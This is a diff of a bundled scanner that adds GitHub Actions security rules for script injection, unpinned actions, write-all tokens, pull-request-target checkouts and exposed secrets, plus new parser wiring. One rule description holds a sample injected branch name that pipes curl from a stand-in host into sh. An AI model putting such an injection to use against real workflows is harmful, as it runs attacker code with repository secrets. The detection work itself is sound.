+        return 'action';
+    return undefined;
+}
+/** An action's metadata: a map with `runs`. */
+function isAction(root) {
+    return isMap(root) && entry(root, 'runs') !== undefined;
+}
+function offsetOf(lines, line, column) {
+    return (lines.starts[line - 1] ?? lines.text.length) + column - 1;
+}
+/** Keeps the source of every string that holds an expression. */
+function keepSources(node, lines, depth = 0) {
+    if (depth > 200)
+        return;
+    switch (node.kind) {
+        case 'map':
+            for (const e of node.entries)
+                keepSources(e.value, lines, depth + 1);
+            return;
+        case 'list':
+            for (const i of node.items)
+                keepSources(i, lines, depth + 1);
+            return;
+        case 'scalar':
+            if (typeof node.value === 'string' && node.value.includes('${{')) {
+                const start = offsetOf(lines, node.pos.line, node.pos.column);
+                const end = offsetOf(lines, node.pos.endLine, node.pos.endColumn);
+                const source = lines.text.slice(start, end);
+                if (source.includes('${{'))
+                    node.source = source;
+            }
+            return;
+        default:
+            return;
+    }
+}
+function workflowDoc(file, root, text, format, lines) {
+    keepSources(root, lines ?? new Lines(text));
+    const resources = [];
+    if (format === 'workflow') {
+        const jobs = get(root, 'jobs');
+        if (isMap(jobs)) {
+            for (const e of jobs.entries) {
+                if (!isMap(e.value))
+                    continue;
+                resources.push({
+                    type: 'job',
+                    name: e.key,
+                    pos: {
+                        line: e.keyPos.line,
+                        column: e.keyPos.column,
+                        endLine: e.value.pos.endLine,
+                        endColumn: e.value.pos.endColumn,
+                    },
+                    body: e.value,
+                    node: e.value,
+                });
+            }
+        }
+    }
+    else {
+        const name = get(root, 'name');
+        resources.push({
+            type: 'action',
+            name: isScalar(name) && name.value !== null ? String(name.value) : external_node_path_namespaceObject.posix.dirname(file),
+            pos: root.pos,
+            body: root,
+            node: root,
+        });
+    }
+    return { file, format, root, resources, params: new Map(), comments: scanComments(text, 'hash') };
+}
+/** The `${{ … }}` expressions of a string, each with its own line and column. */
+function expressions(node) {
+    if (!isScalar(node) || typeof node.value !== 'string' || !node.value.includes('${{'))
+        return [];
+    const source = node.source ?? node.value;
+    const out = [];
+    const re = /\$\{\{([\s\S]*?)\}\}/g;
+    for (let m = re.exec(source); m !== null; m = re.exec(source)) {
+        const at = (offset) => {
+            const before = source.slice(0, offset);
+            const newlines = before.split('\n').length - 1;
+            return newlines === 0
+                ? { line: node.pos.line, column: node.pos.column + offset }
+                : { line: node.pos.line + newlines, column: offset - before.lastIndexOf('\n') };
+        };
+        const a = at(m.index);
+        const b = at(m.index + m[0].length);
+        out.push({
+            text: m[0],
+            inner: m[1].trim(),
+            pos: { line: a.line, column: a.column, endLine: b.line, endColumn: b.column },
+        });
+    }
+    return out;
+}
+/** The steps of a job, or of a composite action's `runs`. */
+function steps(resource) {
+    const list = resource.type === 'action' ? get(resource.body, 'runs', 'steps') : get(resource.body, 'steps');
+    if (!isList(list))
+        return [];
+    const out = [];
+    list.items.forEach((item, index) => {
+        if (!isMap(item))
+            return;
+        const usesNode = get(item, 'uses');
+        const withNode = get(item, 'with');
+        const env = get(item, 'env');
+        out.push({
+            node: item,
+            index,
+            ...(isScalar(usesNode) && typeof usesNode.value === 'string'
+                ? { uses: usesNode.value.trim(), usesNode }
+                : {}),
+            ...(get(item, 'run') !== undefined ? { run: get(item, 'run') } : {}),
+            ...(isMap(withNode) ? { with: withNode } : {}),
+            ...(isMap(env) ? { env } : {}),
+        });
+    });
+    return out;
+}
+/** The events that trigger a workflow: `on: push`, `on: [push, pull_request]` or `on: {push: …}`. */
+function triggers(doc) {
+    const on = get(doc.root, 'on');
+    const out = new Set();
+    if (isScalar(on) && typeof on.value === 'string') {
+        out.add(on.value);
+    }
+    else if (isList(on)) {
+        for (const i of on.items)
+            if (isScalar(i) && typeof i.value === 'string')
+                out.add(i.value);
+    }
+    else if (isMap(on)) {
+        for (const e of on.entries)
+            out.add(e.key);
+    }
+    return out;
+}
+/** The action a `uses:` names without its ref, lower-case: `actions/checkout`. */
+function actionName(uses) {
+    return uses.split('@')[0].toLowerCase();
+}
+
+;// CONCATENATED MODULE: ./src/policy-as-code/rules/workflow.ts
+/**
+ * GitHub Actions rules, for workflows (per job) and action metadata (`action.yml`). Expressions
+ * are reported at their own line and column, also inside a multi-line `run: |` script.
+ */
+
+
+
+function owner(res) {
+    return res.type === 'job' ? `job ${res.name}` : `action ${res.name}`;
+}
+function capital(s) {
+    return s.charAt(0).toUpperCase() + s.slice(1);
+}
+function stepLabel(step, res) {
+    const name = toStr(get(step.node, 'name'));
+    return `${name !== undefined ? `Step "${name}"` : `Step ${step.index + 1}`} of ${owner(res)}`;
+}
+/** A rule checked on each job of a workflow and on the action of an `action.yml`. */
+function jobRule(meta, check, formats) {
+    const checks = {};
+    if (formats.includes('workflow'))
+        checks.workflow = { types: ['job'], check };
+    if (formats.includes('action'))
+        checks.action = { types: ['action'], check };
+    return resourceRule(meta, checks);
+}
+/** The scripts a step runs: `run:`, and `script:` of actions/github-script. */
+function scripts(step) {
+    const out = [];
+    if (step.run !== undefined)
+        out.push(step.run);
+    if (step.uses !== undefined && actionName(step.uses) === 'actions/github-script') {
+        const script = get(step.with, 'script');
+        if (script !== undefined)
+            out.push(script);
+    }
+    return out;
+}
+/**
+ * Context values an outsider controls (issue and pull request text, branch names, commit
+ * messages and authors, wiki page names), and whole event objects that contain them.
+ */
+const UNTRUSTED = new RegExp([
+    String.raw `\bgithub\.head_ref\b`,
+    String.raw `\bgithub\.event\.(issue|pull_request|discussion)\.(title|body)\b`,
+    String.raw `\bgithub\.event\.(comment|review|review_comment)\.body\b`,
+    String.raw `\bgithub\.event\.pull_request\.head\.(ref|label|repo\.default_branch)\b`,
+    String.raw `\bgithub\.event\.pages(\[[^\]]*\]|\.\*)\.page_name\b`,
+    String.raw `\bgithub\.event\.(commits(\[[^\]]*\]|\.\*)|head_commit)\.(message|author\.(email|name)|committer\.(email|name))\b`,
+    String.raw `\bgithub\.event\.workflow_run\.(head_branch|display_title|head_commit\.(message|author\.(email|name)))\b`,
+    String.raw `\bgithub\.event(\.(issue|pull_request|comment|review|review_comment|discussion|head_commit|commits|pages|workflow_run))?\s*\)`,
+].join('|'));
+const workflowScriptInjection = jobRule({
+    id: 'workflow-script-injection',
+    title: 'Untrusted event data interpolated into a script',
+    severity: 'high',
+    description: '`${{ }}` is expanded into the script text before the shell (or github-script) runs it. An issue title, a pull request body or a branch name such as `a";curl evil|sh;"` then runs as code in the job, with its GITHUB_TOKEN and secrets.',
+    fix: 'Pass the value through an environment variable and quote it: `env: { TITLE: ${{ github.event.issue.title }} }` and `echo "$TITLE"` (in github-script, read `context.payload` or `process.env.TITLE`).',
+    refs: {
+        checkov: ['CKV_GHA_2'],
+        kics: ['20f14e1a-a899-4e79-9f09-b6a84cd4649b', '62ff6823-927a-427f-acf9-f1ea2932d616'],
+    },
+}, (res) => steps(res).flatMap((step) => scripts(step).flatMap((script) => expressions(script)
+    .filter((e) => UNTRUSTED.test(e.inner))
+    .map((e) => hit(e.pos, `${stepLabel(step, res)} interpolates ${e.text} into its script: pass it through env: and use "$VAR".`)))), ['workflow', 'action']);
+const actionInputInterpolated = jobRule({
+    id: 'action-input-interpolated-in-run',
+    title: 'Action input interpolated into a script',
+    severity: 'medium',
+    description: "A composite action's `${{ inputs.x }}` is pasted into the script text before the shell runs it; a caller that passes a branch name, a title or any user text into the input gets shell injection in its own job without seeing why.",
+    fix: 'Map the input to an environment variable on the step (`env: { NAME: ${{ inputs.name }} }`) and use `"$NAME"` in the script.',
+}, (res) => steps(res).flatMap((step) => scripts(step).flatMap((script) => expressions(script)
+    .filter((e) => /\b(inputs|github\.event\.inputs)\.[A-Za-z_][\w-]*|\binputs\s*\[/.test(e.inner))
+    .map((e) => hit(e.pos, `${stepLabel(step, res)} interpolates ${e.text} into its script: pass it through env: and use "$VAR".`)))), ['action']);
+const SHA = /^[0-9a-f]{40}$/;
+/** Organisations whose actions GitHub itself publishes and runs its platform with. */
+const GITHUB_OWNED = /^(actions|github)\//i;
+/** Why a `uses:` is not pinned, or undefined when it is (or need not be). */
+function unpinned(uses) {
+    if (uses.startsWith('./') || uses.startsWith('.\\'))
+        return undefined;
+    if (uses.startsWith('docker://')) {
+        return /@sha256:[0-9a-f]{64}$/i.test(uses) ? undefined : 'a Docker image without a digest';
+    }
+    if (uses.includes('${{'))
+        return undefined;
+    const at = uses.lastIndexOf('@');
+    if (at === -1)
+        return 'no ref';
+    if (GITHUB_OWNED.test(uses))
+        return undefined;
+    const ref = uses.slice(at + 1);
+    return SHA.test(ref) ? undefined : `ref ${ref}, which can be moved`;
+}
+function pinFix(uses) {
+    return uses.startsWith('docker://') ? 'pin it by digest' : 'pin the full commit SHA';
+}
+const workflowActionNotPinned = jobRule({
+    id: 'workflow-action-not-pinned',
+    title: 'Third-party action not pinned to a commit SHA',
+    severity: 'high',
+    description: "A tag or branch of someone else's action can be moved to new code at any time: when the action's repository is compromised (as tj-actions/changed-files was), every workflow using the tag runs the attacker's code with its token and secrets. Only a full commit SHA is immutable. Actions published by GitHub (`actions/*`, `github/*`) are trusted like the runner itself and not reported.",
+    fix: 'Pin to the full 40-character commit SHA and keep the version in a comment: `uses: owner/action@<sha> # v4.2.0`; let Dependabot or Renovate update it. Pin Docker actions by digest (`docker://image@sha256:…`).',
+    refs: { checkov: ['CKV_GHA_8'], kics: ['555ab8f9-2001-455e-a077-f2d0f41e2fb9'] },
+}, (res) => {
+    const hits = [];
+    const jobUses = get(res.body, 'uses');
+    const reusable = res.type === 'job' ? toStr(jobUses) : undefined;
+    if (reusable !== undefined) {
+        const why = unpinned(reusable.trim());
+        if (why)
+            hits.push(hit(jobUses.pos, `${capital(owner(res))} calls ${reusable} by ${why}: ${pinFix(reusable)}.`));
+    }
+    for (const step of steps(res)) {
+        if (step.uses === undefined)
+            continue;
+        const why = unpinned(step.uses);
+        if (why) {
+            hits.push(hit(step.usesNode.pos, `${stepLabel(step, res)} uses ${step.uses} by ${why}: ${pinFix(step.uses)}.`));
+        }
+    }
+    return hits;
+}, ['workflow', 'action']);
+function writeAllHit(map, where) {
+    const value = get(map, 'permissions');
+    return toStr(value)?.trim() === 'write-all'
+        ? hit(value.pos, `${where} grants the GITHUB_TOKEN write-all: list only the scopes it needs.`)
+        : undefined;
+}
+const workflowPermissionsWriteAll = defineRule({
+    id: 'workflow-permissions-write-all',
+    title: 'GITHUB_TOKEN granted write-all',
+    severity: 'high',
+    description: '`permissions: write-all` gives the job token write access to code, releases, packages, issues, deployments and more: any compromised step or action can push code, publish releases or tamper with the repository.',
+    fix: 'Set `permissions: contents: read` at the top of the workflow and grant each job only the scopes it needs (`packages: write`, `id-token: write`, …).',
+    refs: { checkov: ['CKV2_GHA_1'], kics: ['a7b8c9d0-e1f2-4a3b-9c5d-6e7f8a9b0c1d'] },
+    formats: ['workflow'],
+    check(doc) {
+        const hits = [];
+        const top = writeAllHit(doc.root, 'The workflow');
+        if (top)
+            hits.push(top);
+        for (const res of doc.resources) {
+            const h = writeAllHit(res.body, `Job ${res.name}`);
+            if (h)
+                hits.push({ ...h, resource: res });
+        }
+        return hits;
+    },
+});
+/** Refs and repositories that name the pull request's (or triggering run's) untrusted code. */
+const PR_HEAD = /\bgithub\.(head_ref|event\.pull_request\.head\.(sha|ref|repo\.full_name)|event\.workflow_run\.(head_sha|head_branch|head_repository\.full_name)|event\.number)\b|refs\/pull\//;
+const workflowPrTargetCheckout = jobRule({
+    id: 'workflow-pr-target-checkout',
+    title: 'Privileged workflow checks out pull request code',
+    severity: 'critical',
+    description: "`pull_request_target` and `workflow_run` run with the base repository's secrets and a write token, even for pull requests from forks. Checking out the pull request's head and building or testing it runs the contributor's code with those privileges (a \"pwn request\").",
+    fix: 'Run untrusted code in a `pull_request` workflow (no secrets, read-only token) and pass results as artifacts; if the privileged workflow must see the PR, check out only the base (`github.event.pull_request.base.sha`) and never execute files from the head.',
+    refs: { kics: ['d3a8b4c1-f2e7-4a9b-8c5d-1e6f0a2b3c4d'] },
+}, (res, doc) => {
+    const on = triggers(doc);
+    const privileged = ['pull_request_target', 'workflow_run'].filter((t) => on.has(t));
+    if (privileged.length === 0)
+        return;
+    const hits = [];
+    for (const step of steps(res)) {
+        if (step.uses !== undefined && actionName(step.uses) === 'actions/checkout') {
+            for (const key of ['ref', 'repository']) {
+                const value = get(step.with, key);
+                const text = toStr(value);
+                if (text === undefined || !PR_HEAD.test(text))
+                    continue;
+                const e = expressions(value).find((x) => PR_HEAD.test(x.inner));
+                hits.push(hit(e?.pos ?? value.pos, `${stepLabel(step, res)} checks out the pull request head (${key}: ${text.trim()}) in a ${privileged.join('/')} workflow: do not run untrusted code with secrets.`));
+            }
+        }
+        const run = toStr(step.run);
+        const m = run === undefined ? null : /\bgh\s+pr\s+checkout\b/.exec(run);
+        if (m) {
+            hits.push(hit(step.run.pos, `${stepLabel(step, res)} runs gh pr checkout in a ${privileged.join('/')} workflow: do not run untrusted code with secrets.`));
+        }
+    }
+    return hits;
+}, ['workflow']);
+const workflowCheckoutPersistCredentials = jobRule({
+    id: 'workflow-checkout-persist-credentials',
+    title: 'actions/checkout leaves the token in .git/config',
+    severity: 'low',
+    description: 'By default actions/checkout writes the GITHUB_TOKEN into `.git/config`, where every later step, and any artifact that uploads the workspace, can read it.',
+    fix: 'Add `with: { persist-credentials: false }` to the checkout step, and authenticate explicitly in the one step that pushes.',
+    refs: { kics: ['c9d0e1f2-a3b4-4c5d-9e7f-8a9b0c1d2e3f'] },
+}, (res) => steps(res)
+    .filter((s) => s.uses !== undefined && actionName(s.uses) === 'actions/checkout')
+    .filter((s) => toBool(get(s.with, 'persist-credentials')) !== false)
+    .map((s) => {
+    const value = get(s.with, 'persist-credentials');
+    return hit(value?.pos ?? s.usesNode.pos, `${stepLabel(s, res)} keeps the token in .git/config: set persist-credentials: false.`);
+}), ['workflow', 'action']);
+const workflowSecretsInherit = jobRule({
+    id: 'workflow-secrets-inherit',
+    title: 'Reusable workflow receives every secret',
+    severity: 'low',
+    description: '`secrets: inherit` hands every repository, environment and organisation secret to the called workflow, whatever it needs; a compromise of that workflow (or of the ref it is called at) exposes all of them.',
+    fix: 'Pass only the secrets the called workflow declares: `secrets: { registry-token: ${{ secrets.REGISTRY_TOKEN }} }`.',
+    refs: { kics: ['e3f4a5b6-c7d8-4e9f-8a1b-2c3d4e5f6a7b'] },
+}, (res) => {
+    const value = get(res.body, 'secrets');
+    if (toStr(value)?.trim() === 'inherit') {
+        return hit(value.pos, `Job ${res.name} passes every secret to ${toStr(get(res.body, 'uses')) ?? 'the called workflow'}: pass only the ones it needs.`);
+    }
+}, ['workflow']);
+const UNSECURE = 'ACTIONS_ALLOW_UNSECURE_COMMANDS';
+function unsecureHit(env, where, resource) {
+    const value = isMap(env) ? entry(env, UNSECURE)?.value : undefined;
+    if (toBool(value ?? undefined) !== true)
+        return undefined;
+    return {
+        pos: value.pos,
+        message: `${where} sets ${UNSECURE}: true, which lets any output line change PATH and environment: remove it.`,
+        ...(resource ? { resource } : {}),
+    };
+}
+const workflowUnsecureCommands = defineRule({
+    id: 'workflow-unsecure-commands',
+    title: 'Deprecated set-env and add-path commands enabled',
+    severity: 'high',
+    description: '`ACTIONS_ALLOW_UNSECURE_COMMANDS: true` re-enables the `::set-env` and `::add-path` workflow commands, which GitHub disabled because any text a step prints (a log line, an issue title echoed by a tool) can then set environment variables such as NODE_OPTIONS or LD_PRELOAD and take over later steps.',
+    fix: 'Remove the variable and write to the `$GITHUB_ENV` and `$GITHUB_PATH` files instead; update actions that still need the old commands.',
+    refs: { checkov: ['CKV_GHA_1'], kics: ['60fd272d-15f4-4d8f-afe4-77d9c6cc0453'] },
+    formats: ['workflow', 'action'],
+    check(doc) {
+        const hits = [];
+        if (doc.format === 'workflow')
+            hits.push(unsecureHit(get(doc.root, 'env'), 'The workflow'));
+        for (const res of doc.resources) {
+            if (res.type === 'job')
+                hits.push(unsecureHit(get(res.body, 'env'), `Job ${res.name}`, res));
+            for (const step of steps(res))
+                hits.push(unsecureHit(step.env, stepLabel(step, res), res));
+        }
+        return hits.filter((h) => h !== undefined);
+    },
+});
+const WORKFLOW_RULES = [
+    workflowScriptInjection,
+    actionInputInterpolated,
+    workflowActionNotPinned,
+    workflowPermissionsWriteAll,
+    workflowPrTargetCheckout,
+    workflowCheckoutPersistCredentials,
+    workflowSecretsInherit,
+    workflowUnsecureCommands,
+];
+
 ;// CONCATENATED MODULE: ./src/policy-as-code/rules/index.ts
 
-const BUILTIN_RULES = [...AWS_RULES];
+
+
+
+const BUILTIN_RULES = [
+    ...AWS_RULES,
+    ...DOCKERFILE_RULES,
+    ...KUBERNETES_RULES,
+    ...WORKFLOW_RULES,
+];
 
 // EXTERNAL MODULE: ./node_modules/ignore/index.js
 var ignore = __nccwpck_require__(298);
@@ -48144,121 +57167,6 @@ function checkDoc(doc, rules) {
     return findings;
 }
 
-;// CONCATENATED MODULE: ./src/policy-as-code/parse/positions.ts
-/** Line starts of a text, for offset → position lookups in O(log n). */
-class Lines {
-    text;
-    starts = [0];
-    constructor(text) {
-        this.text = text;
-        for (let i = text.indexOf('\n'); i !== -1; i = text.indexOf('\n', i + 1))
-            this.starts.push(i + 1);
-    }
-    /** 1-based line and column of an offset (column in UTF-16 code units, as SARIF's columnKind). */
-    at(offset) {
-        let lo = 0;
-        let hi = this.starts.length - 1;
-        while (lo < hi) {
-            const mid = (lo + hi + 1) >> 1;
-            if (this.starts[mid] <= offset)
-                lo = mid;
-            else
-                hi = mid - 1;
-        }
-        return { line: lo + 1, column: offset - this.starts[lo] + 1 };
-    }
-    /** The span of [start, end), trailing whitespace and newlines left out (YAML ranges include them). */
-    pos(start, end) {
-        let e = Math.max(start, end);
-        while (e > start && /\s/.test(this.text[e - 1] ?? ''))
-            e--;
-        const a = this.at(start);
-        const b = this.at(e);
-        return { line: a.line, column: a.column, endLine: b.line, endColumn: b.column };
-    }
-    /** The text of a 1-based line, without its newline. */
-    line(n) {
-        const start = this.starts[n - 1];
-        if (start === undefined)
-            return '';
-        const end = this.starts[n] ?? this.text.length + 1;
-        return this.text.slice(start, end - 1).replace(/\r$/, '');
-    }
-    get count() {
-        return this.starts.length;
-    }
-}
-/**
- * Comments of a YAML, Dockerfile (`#`) or HCL (`#`, `//`, `/* *\/`) text, skipping quoted strings
- * and (for HCL) heredocs well enough for suppression markers: a marker inside a string is not a
- * comment. YAML and Dockerfile `#` only starts a comment at a line start or after whitespace.
- */
-function scanComments(text, style) {
-    const comments = [];
-    const lines = text.split('\n');
-    let inBlock = false;
-    let heredoc;
-    for (let i = 0; i < lines.length; i++) {
-        const line = lines[i].replace(/\r$/, '');
-        if (heredoc !== undefined) {
-            if (line.trim() === heredoc)
-                heredoc = undefined;
-            continue;
-        }
-        let quote;
-        for (let j = 0; j < line.length; j++) {
-            const c = line[j];
-            if (inBlock) {
-                if (c === '*' && line[j + 1] === '/') {
-                    inBlock = false;
-                    j++;
-                }
-                continue;
-            }
-            if (quote) {
-                if (c === '\\' && quote === '"')
-                    j++;
-                else if (c === quote)
-                    quote = undefined;
-                continue;
-            }
-            if (c === '"' || (c === "'" && style === 'hash')) {
-                // A YAML apostrophe inside a plain scalar (`it's`) is not a quote: only after space or a flow char.
-                if (c === "'" && j > 0 && !/[\s:[{,-]/.test(line[j - 1]))
-                    continue;
-                quote = c;
-                continue;
-            }
-            if (style === 'hcl' && c === '<' && line[j + 1] === '<') {
-                const m = /^<<-?\s*([A-Za-z_][\w-]*)\s*$/.exec(line.slice(j));
-                if (m) {
-                    heredoc = m[1];
-                    break;
-                }
-            }
-            const startsHash = c === '#' && (style === 'hcl' || j === 0 || /\s/.test(line[j - 1]));
-            const startsSlash = style === 'hcl' && c === '/' && line[j + 1] === '/';
-            if (startsHash || startsSlash) {
-                comments.push({ line: i + 1, column: j + 1, text: line.slice(j + (startsHash ? 1 : 2)).trim() });
-                break;
-            }
-            if (style === 'hcl' && c === '/' && line[j + 1] === '*') {
-                const close = line.indexOf('*/', j + 2);
-                comments.push({
-                    line: i + 1,
-                    column: j + 1,
-                    text: line.slice(j + 2, close === -1 ? undefined : close).trim(),
-                });
-                if (close === -1)
-                    inBlock = true;
-                else
-                    j = close + 1;
-            }
-        }
-    }
-    return comments;
-}
-
 ;// CONCATENATED MODULE: ./src/policy-as-code/parse/cloudformation.ts
 /**
  * CloudFormation templates, YAML or JSON. A document is a template when it has
@@ -48500,36 +57408,66 @@ function parseYaml(text) {
 
 
 
+
+
+
 const YAML_OR_JSON = /\.(ya?ml|json|template)$/i;
-/** Files whose format only the content tells: CloudFormation (YAML/JSON) and, later, others. */
+/** Looks like a Kubernetes manifest (YAML or JSON). */
+const KUBERNETES_TEXT = /^apiVersion:.*$[\s\S]*^kind:|^kind:.*$[\s\S]*^apiVersion:|"apiVersion"\s*:[\s\S]*"kind"\s*:/m;
+/**
+ * Files whose format the content tells (CloudFormation, Kubernetes) or the path (workflows under
+ * `.github/workflows/`, `action.yml`).
+ */
 function parseStructured(file, text) {
     const json = /\.json$/i.test(file) || /^\s*[{[]/.test(text);
     const parsed = parseYaml(text);
     const docs = [];
+    const github = workflowFormatOf(file);
     for (const { root, index } of parsed.docs) {
+        if (github === 'workflow') {
+            if (index === 0 && root?.kind === 'map')
+                docs.push(workflowDoc(file, root, text, 'workflow', parsed.lines));
+            continue;
+        }
+        if (github === 'action' && isAction(root)) {
+            docs.push(workflowDoc(file, root, text, 'action', parsed.lines));
+            continue;
+        }
         if (root && isTemplate(root))
             docs.push({ ...cloudFormationDoc(file, root, text, json), index });
+        else if (isKubernetesObject(root))
+            docs.push(kubernetesDoc(file, root, text, json, index));
     }
-    // A syntax error only matters for a file that is (or looks like) one of ours.
-    const ours = docs.length > 0 || /AWSTemplateFormatVersion|\bType:\s*["']?AWS::|"Type"\s*:\s*"AWS::/.test(text);
-    const errors = ours
-        ? parsed.errors.map((e) => ({
-            file,
-            line: e.line,
-            column: e.column,
-            message: e.message,
-            format: 'cloudformation',
-        }))
+    // A syntax error only matters for a file that is (or looks like) one of ours; a Helm or other Go
+    // template is not YAML until rendered, so its errors are not the author's.
+    let format;
+    if (github === 'workflow' || (github === 'action' && /^runs:/m.test(text))) {
+        format = github;
+    }
+    else if (docs.some((d) => d.format === 'cloudformation') ||
+        /AWSTemplateFormatVersion|\bType:\s*["']?AWS::|"Type"\s*:\s*"AWS::/.test(text)) {
+        format = 'cloudformation';
+    }
+    else if ((docs.length > 0 || KUBERNETES_TEXT.test(text)) && !text.includes('{{')) {
+        format = 'kubernetes';
+    }
+    const errors = format
+        ? parsed.errors.map((e) => ({ file, line: e.line, column: e.column, message: e.message, format }))
         : [];
-    return { docs: errors.length > 0 ? [] : docs, errors };
+    return { docs: parsed.errors.length > 0 ? [] : docs, errors };
 }
 const structured = {
     name: 'YAML/JSON',
     claims: (file) => YAML_OR_JSON.test(file),
     parse: parseStructured,
 };
+const dockerfile = {
+    name: 'Dockerfile',
+    claims: isDockerfileName,
+    parse: parseDockerfile,
+};
 /** Parsers in order: the first that claims a file reads it. */
-const PARSERS = [structured];
+const PARSERS = [dockerfile, structured];
 /** Readies every parser; call once before parsing (parsing itself is synchronous). */
 async function prepareParsers() {
     await Promise.all(PARSERS.map((p) => p.prepare?.()));
@@ -49084,7 +58022,7 @@ function writeText(file, text) {
     external_node_fs_namespaceObject.mkdirSync(external_node_path_namespaceObject.dirname(file), { recursive: true });
     external_node_fs_namespaceObject.writeFileSync(file, text);
 }
-async function main() {
+async function action_main() {
     const inputs = getInputs();
     const reporter = actionReporter();
     const { result, threshold } = await reporter.group('Check infrastructure code against policies', () => runPolicy({
@@ -49141,7 +58079,7 @@ async function main() {
 ;// CONCATENATED MODULE: ./src/policy-as-code/index.ts
 
 
-void run(main);
+void run(action_main);
 
 
 //# sourceMappingURL=index.js.map
